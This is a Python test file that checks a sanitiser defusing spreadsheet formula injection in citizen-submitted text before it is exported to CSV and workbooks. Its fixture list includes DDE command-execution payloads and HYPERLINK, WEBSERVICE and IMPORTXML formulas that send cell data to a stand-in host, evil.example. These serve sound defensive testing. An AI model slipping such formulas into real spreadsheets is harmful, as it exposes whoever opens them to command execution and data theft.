"""A spreadsheet never runs a citizen's text as a formula."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.formats.sheets.spreadsheet import workbook
from hub.overview.case_list import as_csv
from schemas.wording import harmless

SIGNS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪⁼₌⁺₊⁻₋−‐"
"""Usual, full-width, small, raised and lowered, and the other signs of minus."""
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\v",
    "\f",
    "\0",
    "\x1b",
    "\x7f",
    "\x85",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\u200e",
    "\u202e",
    "\u2066",
    "\u00ad",
    "\u180e",
    "\u061c",
    "\u115f",
    "\u3164",
    "\uffa0",
    "\u2800",
    "\ufe0f",
    "\u034f",
    "\U000e0020",
    " \t\ufeff\u200b",
)
FORMULAS = (
    "=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1)',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "|calc",
    "%0A=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "=\t1+1",
    "==1",
    "＝＝1",
    "+A1",
    "-A1",
    "＠SUM(A1)",
    "−A1",
)
PLAIN = (
    "",
    "路灯不亮",
    "1+1=2",
    "a=b",
    "邮箱 a@b.cn",
    "涨了 5%",
    "——来自群众",
    "—破折号",
    "（-5 ℃）",
    "138****0000",
    "'=1+1",
    "“=1+1”",
    "3-5 天",
    "2026-11-28",
    "#12",
    "/路",
    "·",
    "～",
)
SIGNED = ("-5", "+5", "-3.5", "+86 138 0013 8000", "+8613800138000", "－５", "-", "+")


@pytest.mark.parametrize("sign", SIGNS)
def test_every_sign_after_every_blank_is_disarmed(sign: str) -> None:
    """The apostrophe comes first, and the words stay as they were."""
    for before in BEFORE:
        cell = f"{before}{sign}1+1"
        assert harmless(cell) == f"'{cell}", ascii(cell)


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_that_were_seen_elsewhere_are_disarmed(cell: str) -> None:
    """Known formula attacks are disarmed: calculations, links, DDE, external requests."""
    assert harmless(cell) == f"'{cell}"
    assert harmless(harmless(cell)) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_a_text_that_is_no_formula_stays(cell: str) -> None:
    """Signs within a text, dates, masked numbers and Chinese dashes stay."""
    assert harmless(cell) == cell


@pytest.mark.parametrize("cell", SIGNED)
def test_signed_numbers_are_shown_as_they_were_written(cell: str) -> None:
    """A telephone number with +86 would be shown as 8.6E+12, and `-5` is one sign from `-5+A1`."""
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("control", ["\t", "\r", "\n", "\0", "\x1b"])
def test_a_control_character_at_the_beginning_is_disarmed(control: str) -> None:
    """A leading control character is disarmed, independent of the rest of the cell."""
    assert harmless(f"{control}路灯") == f"'{control}路灯"


def test_a_workbook_holds_text_only() -> None:
    """Also of cells that nobody has disarmed; control characters do not break it."""
    line = [*FORMULAS, *PLAIN[1:], "坏\x0b字\x00符", "=1" * 20_000]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook("事项", [line]))).active
    assert sheet is not None
    cells = next(iter(sheet.iter_rows()))
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells[: len(FORMULAS)]] == list(FORMULAS)
    assert cells[-2].value == "坏字符"


@given(st.text(max_size=30))
def test_a_written_table_reads_back_unchanged(text: str) -> None:
    """A written table reads back unchanged, with commas, quotes and line ends."""
    cell = harmless(text.encode(errors="ignore").decode())
    written = as_csv([["标题", "内容"], [cell, "后"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(written, newline="")))[1] == [cell, "后"]
